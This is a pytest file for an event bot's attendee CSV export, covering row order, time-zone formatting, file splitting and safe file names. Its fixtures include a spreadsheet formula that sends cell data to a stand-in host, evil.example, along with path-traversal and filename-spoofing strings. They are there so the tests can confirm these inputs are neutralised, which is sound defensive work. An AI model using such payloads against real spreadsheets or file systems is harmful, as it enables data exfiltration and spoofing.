"""The attendee export on a real migrated database: rows, order, time zone, CSV safety, size."""

from __future__ import annotations

import codecs
import csv
import io
import time
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy.event import listen

from bot.services import export as exports
from bot.services.errors import EventNotFound
from db.models import Event, Role
from tests.conftest import Sessions
from tests.services.attendee_rows import (
    add_person,
    check_in,
    join_waitlist,
    many_registrations,
    register,
)
from tests.services.factories import make_event, make_user

NOW = datetime(2030, 1, 10, 12, 0, tzinfo=UTC)
BERLIN = ZoneInfo("Europe/Berlin")
HEADER = ["name", "email", "registered at", "checked in at", "waitlist position"]
AWKWARD_NAMES = [
    'Smith, "Jo" Ann',
    "two\nlines",
    "cr\r\nlf",
    "🎷 Zoë 👩‍💻",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1 (555) 0100",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturn",
    "plain",
]


def parse(content: bytes) -> list[list[str]]:
    """Read a CSV file the way a spreadsheet does: BOM, then RFC 4180 quoting."""
    assert content.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


async def test_every_name_comes_back_exactly_and_formulas_are_neutralised(
    sessions: Sessions,
) -> None:
    manager = await make_user(sessions, "boss@example.com", role=Role.MANAGER, now=NOW)
    event = await make_event(sessions, manager, now=NOW, capacity=len(AWKWARD_NAMES))
    async with sessions.begin() as session:
        for i, name in enumerate(AWKWARD_NAMES):
            user = await add_person(session, name, f"p{i}@example.com", now=NOW)
            await register(session, user, event.id, now=NOW + timedelta(minutes=i))
    async with sessions.db.read() as session:
        export = await exports.attendee_export(session, event_id=event.id)
    [content] = exports.csv_files(HEADER, export, BERLIN)
    rows = parse(content)
    assert rows[0] == HEADER
    names = [row[0] for row in rows[1:]]
    assert names == [exports.neutralised(name) for name in AWKWARD_NAMES]
    assert names[:5] == [*AWKWARD_NAMES[:4], "'" + AWKWARD_NAMES[4]]
    assert names[5:10] == ["'+1 (555) 0100", "'-2+3", "'@SUM(A1:A9)", "'\tTabbed", "'\rReturn"]
    assert all(len(row) == 5 for row in rows)


def test_only_cells_that_start_like_a_formula_get_a_quote() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert exports.neutralised(f"{start}1+1") == f"'{start}1+1"
    for safe in ("", "Ann", "a=b", "1-2", "'quoted", " =x", "ann@example.com"):
        assert exports.neutralised(safe) == safe


async def test_registered_then_waiting_in_order_with_times_in_the_zone(sessions: Sessions) -> None:
    manager = await make_user(sessions, "boss@example.com", role=Role.MANAGER, now=NOW)
    event = await make_event(sessions, manager, now=NOW, capacity=2, starts_in=timedelta(days=200))
    winter = datetime(2030, 1, 10, 22, 30, 5, 123456, tzinfo=UTC)  # CET, +01:00
    summer = datetime(2030, 7, 1, 22, 30, tzinfo=UTC)  # CEST, +02:00, the next day in Berlin
    async with sessions.begin() as session:
        ann = await add_person(session, "Ann", "ann@example.com", now=NOW)
        bob = await add_person(session, "Bob", "bob@example.com", now=NOW)
        cid = await add_person(session, "Cid", "cid@example.com", now=NOW)
        dee = await add_person(session, "Dee", "dee@example.com", now=NOW)
        first = await register(session, ann, event.id, now=winter)
        await register(session, bob, event.id, now=summer)
        await check_in(session, first.id, at=summer + timedelta(hours=1))
        await join_waitlist(session, dee, event.id, now=summer)  # joined first: position 1
        await join_waitlist(session, cid, event.id, now=summer + timedelta(minutes=1))
    async with sessions.db.read() as session:
        export = await exports.attendee_export(session, event_id=event.id)
    rows = parse(exports.csv_files(HEADER, export, BERLIN)[0])
    assert rows[1:] == [
        ["Ann", "ann@example.com", "2030-01-10T23:30:05+01:00", "2030-07-02T01:30:00+02:00", ""],
        ["Bob", "bob@example.com", "2030-07-02T00:30:00+02:00", "", ""],
        ["Dee", "dee@example.com", "", "", "1"],
        ["Cid", "cid@example.com", "", "", "2"],
    ]
    rows = parse(exports.csv_files(HEADER, export, ZoneInfo("America/New_York"))[0])
    assert rows[1][2] == "2030-01-10T17:30:05-05:00"


async def test_an_unknown_event_is_not_found(sessions: Sessions) -> None:
    async with sessions.db.read() as session:
        with pytest.raises(EventNotFound):
            await exports.attendee_export(session, event_id=999)


async def test_ten_thousand_registrations_are_read_without_orm_objects_and_fit_one_file(
    sessions: Sessions,
) -> None:
    manager = await make_user(sessions, "boss@example.com", role=Role.MANAGER, now=NOW)
    event = await make_event(sessions, manager, now=NOW, capacity=10_000)
    times = [NOW - timedelta(seconds=i) for i in range(10_000)]
    async with sessions.begin() as session:
        await many_registrations(session, event.id, times)
    loaded: list[type] = []
    async with sessions.db.read() as session:
        listen(
            session.sync_session, "loaded_as_persistent", lambda _s, obj: loaded.append(type(obj))
        )
        export = await exports.attendee_export(session, event_id=event.id)
    assert loaded == [Event]  # the event itself; registrations and accounts came as rows
    assert len(export.registered) == 10_000
    started = time.perf_counter()
    [content] = exports.csv_files(HEADER, export, BERLIN)
    took = time.perf_counter() - started
    rows = parse(content)
    assert len(rows) == 10_001
    assert rows[1][0] == "Guest 0" and rows[-1][0] == "Guest 9999"
    assert len(content) < exports.MAX_DOCUMENT_BYTES
    print(f"10,000 rows: {len(content):,} bytes built in {took * 1000:.0f} ms")


async def test_a_file_over_the_limit_is_split_into_parts_each_with_bom_and_header(
    sessions: Sessions,
) -> None:
    manager = await make_user(sessions, "boss@example.com", role=Role.MANAGER, now=NOW)
    event = await make_event(sessions, manager, now=NOW, capacity=100)
    async with sessions.begin() as session:
        await many_registrations(session, event.id, [NOW] * 100)
    async with sessions.db.read() as session:
        export = await exports.attendee_export(session, event_id=event.id)
    [whole] = exports.csv_files(HEADER, export, BERLIN)
    parts = exports.csv_files(HEADER, export, BERLIN, max_bytes=len(whole) // 3)
    assert len(parts) >= 3
    assert all(len(part) <= len(whole) // 3 for part in parts)
    parsed = [parse(part) for part in parts]
    assert all(rows[0] == HEADER and len(rows) > 1 for rows in parsed)
    assert [row for rows in parsed for row in rows[1:]] == parse(whole)[1:]


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Jazz night", "Jazz night-attendees.csv"),
        ("AC/DC \\ tribute: live?", "AC_DC _ tribute_ live_-attendees.csv"),
        ("🎷 Noche de jazz · Café Zoë", "🎷 Noche de jazz · Café Zoë-attendees.csv"),
        ("👩‍💻 meetup", "👩‍💻 meetup-attendees.csv"),  # the joiner keeps the emoji whole
        ("gpj.\u202eexe", "gpj. exe-attendees.csv"),  # no direction override
        ("bell\x07tab\tnul\x00", "bell tab nul-attendees.csv"),
        ("../../etc/passwd", "_.._etc_passwd-attendees.csv"),
        ("...", "event-attendees.csv"),
        ('<a href="x">|*', "_a href=_x____-attendees.csv"),
    ],
)
def test_file_names_are_safe_and_still_read_as_the_title(title: str, name: str) -> None:
    assert exports.document_name(title, "-attendees.csv") == name


def test_a_long_title_is_cut_on_a_character_boundary() -> None:
    name = exports.document_name("🎷" * 100, "-attendees.csv")
    stem = name.removesuffix("-attendees.csv")
    assert stem == "🎷" * (exports.MAX_NAME_BYTES // 4)
    assert len(name.encode()) <= 255


async def test_accounts_in_the_export_are_only_this_events(sessions: Sessions) -> None:
    manager = await make_user(sessions, "boss@example.com", role=Role.MANAGER, now=NOW)
    jazz = await make_event(sessions, manager, now=NOW, title="Jazz")
    blues = await make_event(sessions, manager, now=NOW, title="Blues")
    async with sessions.begin() as session:
        ann = await add_person(session, "Ann", "ann@example.com", now=NOW)
        bob = await add_person(session, "Bob", "bob@example.com", now=NOW)
        await register(session, ann, jazz.id, now=NOW)
        await register(session, bob, blues.id, now=NOW)
        await join_waitlist(session, ann, blues.id, now=NOW)
    async with sessions.db.read() as session:
        export = await exports.attendee_export(session, event_id=jazz.id)
    assert export.title == "Jazz"
    assert [p.name for p in export.registered] == ["Ann"] and export.waiting == []
